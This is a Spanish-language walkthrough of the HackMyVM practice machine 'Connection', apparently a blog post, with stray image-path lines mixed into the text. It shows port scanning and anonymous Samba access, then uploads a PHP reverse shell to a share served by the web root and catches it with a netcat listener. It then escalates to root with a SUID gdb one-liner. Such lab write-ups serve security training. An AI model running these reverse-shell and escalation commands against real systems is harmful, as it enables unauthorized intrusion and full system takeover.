[HackMyVM] Connection

Hoy vamos a hackear la maquina de HackMyVM llamada Connection. Podeis registraros y descargarla desde el siguiente enlace: Connection



Empezamos con un nmap para ver que puertos tiene abiertos.

~ > nmap -A -p-
✘ INT 7s
Starting Nmap 7.70 ( https://nmap.org ) at 2020-10-05 12:34 CEST
Nmap scan report for
Host is up (0.00061s latency).
Not shown: 65531 closed ports
22/tcp  open  ssh         OpenSSH 7.9p1 Debian 10+deb10u2 (protocol 2.0)| ssh-hostkey:
|   2048 b7:e6:01:b5:f9:06:a1:ea:40:04:29:44:f4:df:22:a1 (RSA)
|   256 fb:16:94:df:93:89:c7:56:85:84:22:9e:a0:be:7c:95 (ECDSA)
|_  256 45:2e:fb:87:04:eb:d1:8b:92:6f:6a:ea:5a:a2:a1:1c (ED25519)
80/tcp  open  http        Apache httpd 2.4.38 ((Debian))
|_http-server-header: Apache/2.4.38 (Debian)
|_http-title: Apache2 Debian Default Page: It works
139/tcp open  netbios-ssn Samba smbd 3.X - 4.X (workgroup: WORKGROUP)
445/tcp open  netbios-ssn Samba smbd 4.9.5-Debian (workgroup: WORKGROUP)
Service Info: Host: CONNECTION; OS: Linux; CPE: cpe:/o:linux:linux_kernel

Host script results:
|_clock-skew: mean: 1h19m58s, deviation: 2h18m33s, median: -1s
|_nbstat: NetBIOS name: CONNECTION, NetBIOS user: , NetBIOS MAC:
| smb-os-discovery:
|   OS: Windows 6.1 (Samba 4.9.5-Debian)
|   Computer name: connection
|   NetBIOS computer name: CONNECTION\x00
|   Domain name: \x00
|   FQDN: connection
|_  System time: 2020-10-05T06:35:05-04:00
| smb-security-mode:
|   account_used:
|   authentication_level: user
|   challenge_response: supported
|_  message_signing: disabled (dangerous, but default)
| smb2-security-mode:
|   2.02:
|_    Message signing enabled but not required
| smb2-time:
|   date: 2020-10-05 12:35:05
|_  start_date: N/A

Service detection performed. Please report any incorrect results athttps://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 17.44 seconds
Vemos que tiene abiertos el puerto de SSH, Samba y HTTP. Echamos un vistazo a Samba.

~ > smbclient -L
mkdir failed on directory /var/run/samba/msg.lock: Permiso denegado
Unable to initialize messaging context
Enter WORKGROUP\sml's password:
Anonymous login successful

    Sharename       Type      Comment
    ---       ----      ---
    share           Disk
    print$          Disk      Printer Drivers
    IPC$            IPC       IPC Service(Private Share for uploading
Reconnecting with SMB1 for workgroup listing.
Anonymous login successful

    Server               Comment
    ---            ---

    Workgroup            Master
    ---            ---
Hay una carpeta llamada "share", investigamos un poco mas....

~ > smbclient \\\\\\share
mkdir failed on directory /var/run/samba/msg.lock: Permiso denegado
Unable to initialize messaging context
Enter WORKGROUP\sml's password:
Anonymous login successful
Try "help" to get a list of possible commands.
smb: \> dir
  .                                   D        0  Wed Sep 23 03:48:39 2020
  ..                                  D        0  Wed Sep 23 03:48:39 2020
  html                                D        0  Wed Sep 23 04:20:00 2020

        7158264 blocks of size 1024. 5463328 blocks available
smb: \> cd html
smb: \html\> dir
  .                                   D        0  Wed Sep 23 04:20:00 2020
  ..                                  D        0  Wed Sep 23 03:48:39 2020
  index.html                          N    10701  Wed Sep 23 03:48:45 2020

        7158264 blocks of size 1024. 5463328 blocksavailable
smb: \html\>
Vemos que dentro de "share" hay una carpeta llamada "html" y dentro se encuentra index.html. Todo apunta a que es la carpeta a la que accede el servidor web, con lo cual vamos a subir una reverse shell al samba y ver si desde la web podemos ejecutarla :) Preparamos nuestra reverse shell.

~ > cp /usr/share/webshells/php/php-reverse-shell.php .
~ > mv php-reverse-shell.php rshell.php
~ > nano rshell.php #Configuramos IP-PUERTO.
Subimos la reverse shell.

smb: \html\> put rshell.php
putting file rshell.php as \html\rshell.php (1788,7 kb/s) (average 1788,7 kb/s)
Ponemos nc a la escucha!

~ > nc -nlvp 1234
listening on [any] 1234 ...
Y visitamos

Low Shell

Obtenemos nuestra reverse shell :)

~ > nc -nlvp 1234
listening on [any] 1234 ...
connect to [] from (UNKNOWN) [] 58858
Linux connection 4.19.0-10-amd64 #1 SMP Debian 4.19.132-1 (2020-07-24) x86_64
 06:37:23 up 4 min,  0 users,  load average: 0.00, 0.02, 0.00USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT
uid=33(www-data) gid=33(www-data) groups=33(www-data)
/bin/sh: 0: can't access tty; job control turned off
$ python3 -c 'import pty;pty.spawn("/bin/bash")'
Una vez dentro, exploramos un poco el sistema y miramos los ficheros que tiene con SUID.

Privilege Escalation

www-data@connection:/$ find / -perm -4000 2>/dev/null
find / -perm -4000 2>/dev/null
Vemos que el binario gdb esta en la lista, y dicho binario podemos usarlo para escalar privilegios!

www-data@connection:/$ gdb -nx -ex 'python import os; os.execl("/bin/sh", "sh",
"-p")' -ex quitThis is free software: you are free to change and redistribute it.
There is NO WARRANTY, to the extent permitted by law.
Type "show copying" and "show warranty" for details.
This GDB was configured as "x86_64-linux-gnu".
Type "show configuration" for configuration details.
For bug reporting instructions, please see:
Find the GDB manual and other documentation resources online at:

For help, type "help".
Type "apropos word" to search for commands related to "word".
# id
uid=33(www-data) gid=33(www-data) euid=0(root)egid=0(root)


# cd /root
# ls
# cut -c-5 proof.txt


Y con esto ya seriamos root de la maquina.